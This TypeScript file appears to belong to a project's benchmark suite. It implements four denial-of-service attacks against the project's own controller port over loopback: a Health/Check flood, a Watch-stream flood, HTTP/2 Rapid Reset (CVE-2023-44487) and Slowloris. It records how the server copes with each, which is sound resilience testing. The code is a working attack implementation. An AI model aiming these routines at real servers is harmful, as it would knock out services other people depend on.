/**
 * The four attacks of issue 32 on the controller's main port, as a stranger with no token
 * would make them, from four loopback source addresses (127.0.0.1-4, bound with
 * `localAddress`). Loopback only. Each runs until its window ends, then closes every socket
 * it opened and returns what the server did with its traffic. They run in the attacker child
 * (bench/front-door-attacker.ts), never in the lead's process.
 */
import { connect as h2connect, constants, type ClientHttp2Session, type ClientHttp2Stream } from "node:http2";
import { connect as netConnect, type Socket } from "node:net";
import { summarize } from "./stats.js";

export const ATTACKS = ["check_flood", "watch_flood", "rapid_reset", "slow_headers"] as const;
export type AttackName = (typeof ATTACKS)[number];

export const SOURCE_ADDRESSES = ["127.0.0.1", "127.0.0.2", "127.0.0.3", "127.0.0.4"];

export interface AttackSizes {
  /** Concurrent Health/Check calls (issue: 64). */
  checkConcurrency: number;
  /** Health/Watch streams tried in all (issue: 8,000), spread over the addresses. */
  watchStreams: number;
  /** Streams opened per HTTP/2 connection (the server's advertised maximum is 128 now). */
  watchStreamsPerConnection: number;
  /** HTTP/2 connections resetting streams (issue: 8). */
  resetConnections: number;
  /** Slow HTTP/1.1 header senders (issue: 800), spread over the addresses. */
  slowConnections: number;
  /** One header byte per slow connection this often. */
  slowDripMs: number;
}

export type AttackStats = Record<string, unknown>;

const CHECK_PATH = "/grpc.health.v1.Health/Check";
const WATCH_PATH = "/grpc.health.v1.Health/Watch";
// An empty HealthCheckRequest (service ""): the gRPC frame prefix (uncompressed, length 0) and no bytes.
const EMPTY_REQUEST = Buffer.alloc(5);
const GRPC_HEADERS = { ":method": "POST", "content-type": "application/grpc", te: "trailers" };

interface H2Connection {
  session: ClientHttp2Session;
  socket: () => Socket | undefined;
}

function h2session(port: number, localAddress: string): H2Connection {
  let socket: Socket | undefined;
  const createConnection = () => (socket = netConnect({ host: "127.0.0.1", port, localAddress }));
  const session = h2connect(`http://127.0.0.1:${port}`, { createConnection });
  // A session's failure is counted by its close; an unhandled 'error' would end the attacker.
  session.on("error", () => {});
  return { session, socket: () => socket };
}

function bump(o: Record<string, number>, key: string, by = 1): void {
  o[key] = (o[key] ?? 0) + by;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Tracks sessions for the teardown and counts the ones the server closed (GOAWAY or close) before it. */
class Sessions {
  readonly all = new Set<ClientHttp2Session>();
  stopping = false;
  opened = 0;
  closedByServer = 0;
  goaways = 0;
  /** Bytes the sessions wrote to their sockets, counted at each session's close. */
  bytesSent = 0;
  /** The smallest SETTINGS_MAX_CONCURRENT_STREAMS the server advertised on any connection. */
  serverMaxStreams: number | undefined;

  open(port: number, address: string): ClientHttp2Session {
    const { session: s, socket } = h2session(port, address);
    this.opened++;
    this.all.add(s);
    s.once("remoteSettings", (settings) => {
      const max = settings.maxConcurrentStreams;
      if (max !== undefined) this.serverMaxStreams = Math.min(this.serverMaxStreams ?? max, max);
    });
    s.once("goaway", () => this.goaways++);
    s.once("close", () => {
      this.bytesSent += socket()?.bytesWritten ?? 0;
      this.all.delete(s);
      if (!this.stopping) this.closedByServer++;
    });
    return s;
  }

  /** Destroys every session and resolves once their closes have been counted. */
  async closeAll(): Promise<void> {
    this.stopping = true;
    const closes = [...this.all].map((s) => new Promise((r) => s.once("close", r)));
    for (const s of this.all) s.destroy();
    await Promise.race([Promise.all(closes), sleep(5_000)]);
  }
}

/** 64 concurrent unauthenticated Health/Check calls in a loop, over one h2c connection per address. */
async function checkFlood(port: number, windowMs: number, z: AttackSizes): Promise<AttackStats> {
  const sessions = new Sessions();
  const byAddress = new Map<string, ClientHttp2Session>();
  const sessionFor = (address: string) => {
    let s = byAddress.get(address);
    if (!s || s.closed || s.destroyed) {
      s = sessions.open(port, address);
      byAddress.set(address, s);
    }
    return s;
  };
  const statuses: Record<string, number> = {};
  const ms: number[] = [];
  let calls = 0;
  const end = Date.now() + windowMs;
  const worker = async (i: number) => {
    const address = SOURCE_ADDRESSES[i % SOURCE_ADDRESSES.length]!;
    while (Date.now() < end) {
      const t0 = performance.now();
      calls++;
      const status = await new Promise<string>((resolve) => {
        let grpcStatus: string | undefined;
        let stream: ClientHttp2Stream;
        try {
          stream = sessionFor(address).request({ ...GRPC_HEADERS, ":path": CHECK_PATH });
        } catch (e) {
          return resolve((e as NodeJS.ErrnoException).code ?? "request_failed");
        }
        stream.on("response", (h) => (grpcStatus = (h["grpc-status"] as string | undefined) ?? grpcStatus));
        stream.on("trailers", (t) => (grpcStatus = (t["grpc-status"] as string | undefined) ?? grpcStatus));
        stream.on("error", () => {});
        stream.on("data", () => {});
        stream.on("close", () => resolve(grpcStatus !== undefined ? `grpc_${grpcStatus}` : `rst_${stream.rstCode}`));
        stream.end(EMPTY_REQUEST);
      });
      bump(statuses, status);
      ms.push(performance.now() - t0);
      // A failing session is reopened at the next call; do not spin on an instant refusal.
      if (status !== "grpc_0") await sleep(5);
    }
  };
  await Promise.all(Array.from({ length: z.checkConcurrency }, (_, i) => worker(i)));
  await sessions.closeAll();
  return {
    concurrency: z.checkConcurrency,
    calls,
    calls_per_s: Math.round(calls / (windowMs / 1000)),
    statuses,
    check_latency: summarize(ms),
    connections_opened: sessions.opened,
    connections_closed_by_server: sessions.closedByServer,
  };
}

/**
 * Health/Watch server streams from every address, held open for the window. A stream is
 * accepted when the server answers it with headers and no status (a live stream), refused
 * when it ends first (a gRPC status, a reset, its connection closed), unanswered when neither
 * happened by the window's end: open on the server and not answered yet, unless the server
 * advertised fewer streams per connection than were opened on it (the client holds those back).
 */
async function watchFlood(port: number, windowMs: number, z: AttackSizes): Promise<AttackStats> {
  const sessions = new Sessions();
  let accepted = 0;
  let droppedAfterAccept = 0;
  const refused: Record<string, number> = {};
  let attempted = 0;
  const t0 = Date.now();
  const perAddress = Math.ceil(z.watchStreams / SOURCE_ADDRESSES.length);
  const openStream = (s: ClientHttp2Session) => {
    attempted++;
    let live = false;
    let stream: ClientHttp2Stream;
    try {
      stream = s.request({ ...GRPC_HEADERS, ":path": WATCH_PATH });
    } catch (e) {
      return bump(refused, (e as NodeJS.ErrnoException).code ?? "request_failed");
    }
    let grpcStatus: string | undefined;
    stream.on("response", (h) => {
      grpcStatus = h["grpc-status"] as string | undefined;
      if (grpcStatus === undefined && !live) {
        live = true;
        accepted++;
      }
    });
    stream.on("trailers", (t) => (grpcStatus = (t["grpc-status"] as string | undefined) ?? grpcStatus));
    stream.on("data", () => {});
    stream.on("error", () => {});
    stream.on("close", () => {
      if (sessions.stopping) return;
      if (live) droppedAfterAccept++;
      else if (grpcStatus !== undefined) bump(refused, `grpc_${grpcStatus}`);
      else bump(refused, stream.rstCode ? `rst_${stream.rstCode}` : "connection_closed");
    });
    stream.end(EMPTY_REQUEST);
  };
  for (let i = 0; i < perAddress && Date.now() - t0 < windowMs; i += z.watchStreamsPerConnection) {
    for (const address of SOURCE_ADDRESSES) {
      const s = sessions.open(port, address);
      for (let k = 0; k < Math.min(z.watchStreamsPerConnection, perAddress - i); k++) openStream(s);
    }
    // Let the frames go out and the answers come in between connections.
    await sleep(10);
  }
  const allSentAtMs = Date.now() - t0;
  await sleep(Math.max(0, windowMs - (Date.now() - t0)));
  const refusedTotal = Object.values(refused).reduce((a, b) => a + b, 0);
  const held = accepted - droppedAfterAccept;
  await sessions.closeAll();
  return {
    attempted,
    accepted,
    refused: refusedTotal,
    refused_by_reason: refused,
    unanswered_at_end: attempted - accepted - refusedTotal,
    server_max_streams_per_connection: sessions.serverMaxStreams,
    held_open_at_end: held,
    ended_by_server_after_accept: droppedAfterAccept,
    all_sent_after_ms: allSentAtMs,
    connections_opened: sessions.opened,
    connections_closed_by_server: sessions.closedByServer,
    goaways: sessions.goaways,
    bytes_sent: sessions.bytesSent,
  };
}

/**
 * CVE-2023-44487: HEADERS for a POST to a real gRPC path, then RST_STREAM (CANCEL) at once,
 * as fast as the client can, on N connections; a connection the server closes is reopened.
 */
async function rapidReset(port: number, windowMs: number, z: AttackSizes): Promise<AttackStats> {
  const sessions = new Sessions();
  let resets = 0;
  let requestErrors = 0;
  const end = Date.now() + windowMs;
  const blaster = async (i: number) => {
    const address = SOURCE_ADDRESSES[i % SOURCE_ADDRESSES.length]!;
    let s = sessions.open(port, address);
    while (Date.now() < end) {
      if (s.closed || s.destroyed) s = sessions.open(port, address);
      // A batch per turn of the event loop, so the frames are written and the server's answers read;
      // 200 streams a batch sent ~1.5x what 50 did against a plain Node server here.
      for (let k = 0; k < 200; k++) {
        try {
          const stream = s.request({ ...GRPC_HEADERS, ":path": CHECK_PATH }, { endStream: false });
          stream.on("error", () => {});
          stream.close(constants.NGHTTP2_CANCEL);
          resets++;
        } catch {
          requestErrors++;
          break;
        }
      }
      await new Promise((r) => setImmediate(r));
    }
  };
  await Promise.all(Array.from({ length: z.resetConnections }, (_, i) => blaster(i)));
  await sessions.closeAll();
  return {
    connections: z.resetConnections,
    streams_reset: resets,
    resets_per_s: Math.round(resets / (windowMs / 1000)),
    request_errors: requestErrors,
    connections_opened: sessions.opened,
    connections_closed_by_server: sessions.closedByServer,
    goaways: sessions.goaways,
    // What reached the wire: a stream queued beyond the server's limit and reset there is never sent.
    bytes_sent: sessions.bytesSent,
    server_max_streams_per_connection: sessions.serverMaxStreams,
  };
}

/**
 * Slowloris: HTTP/1.1 connections that send a request line and part of a header, then one
 * header byte every few seconds; a connection the server closes is reopened, as an attacker
 * keeping the table full would.
 */
async function slowHeaders(port: number, windowMs: number, z: AttackSizes): Promise<AttackStats> {
  const open = new Set<Socket>();
  let stopping = false;
  let attempted = 0;
  let connected = 0;
  let closedByServer = 0;
  const errors: Record<string, number> = {};
  const openSamples: number[] = [];
  const dial = (address: string) => {
    if (stopping) return;
    attempted++;
    const s = netConnect({ host: "127.0.0.1", port, localAddress: address });
    let up = false;
    s.on("connect", () => {
      up = true;
      connected++;
      open.add(s);
      s.write(`POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nX-Slow: `);
    });
    s.on("data", () => {});
    s.on("error", (e: NodeJS.ErrnoException) => bump(errors, e.code ?? "error"));
    s.on("close", () => {
      open.delete(s);
      if (stopping) return;
      if (up) closedByServer++;
      setTimeout(() => dial(address), 100);
    });
  };
  for (let i = 0; i < z.slowConnections; i++) dial(SOURCE_ADDRESSES[i % SOURCE_ADDRESSES.length]!);
  const drip = setInterval(() => {
    for (const s of open) s.write("a");
  }, z.slowDripMs);
  const sample = setInterval(() => openSamples.push(open.size), 500);
  await sleep(windowMs);
  stopping = true;
  clearInterval(drip);
  clearInterval(sample);
  const heldAtEnd = open.size;
  for (const s of open) s.destroy();
  return {
    target: z.slowConnections,
    attempted,
    connected,
    closed_by_server: closedByServer,
    held_open_at_end: heldAtEnd,
    held_open_min: openSamples.length ? Math.min(...openSamples) : 0,
    held_open_mean: openSamples.length ? Math.round(openSamples.reduce((a, b) => a + b, 0) / openSamples.length) : 0,
    errors,
  };
}

export function runAttack(name: AttackName, port: number, windowMs: number, z: AttackSizes): Promise<AttackStats> {
  switch (name) {
    case "check_flood":
      return checkFlood(port, windowMs, z);
    case "watch_flood":
      return watchFlood(port, windowMs, z);
    case "rapid_reset":
      return rapidReset(port, windowMs, z);
    case "slow_headers":
      return slowHeaders(port, windowMs, z);
  }
}
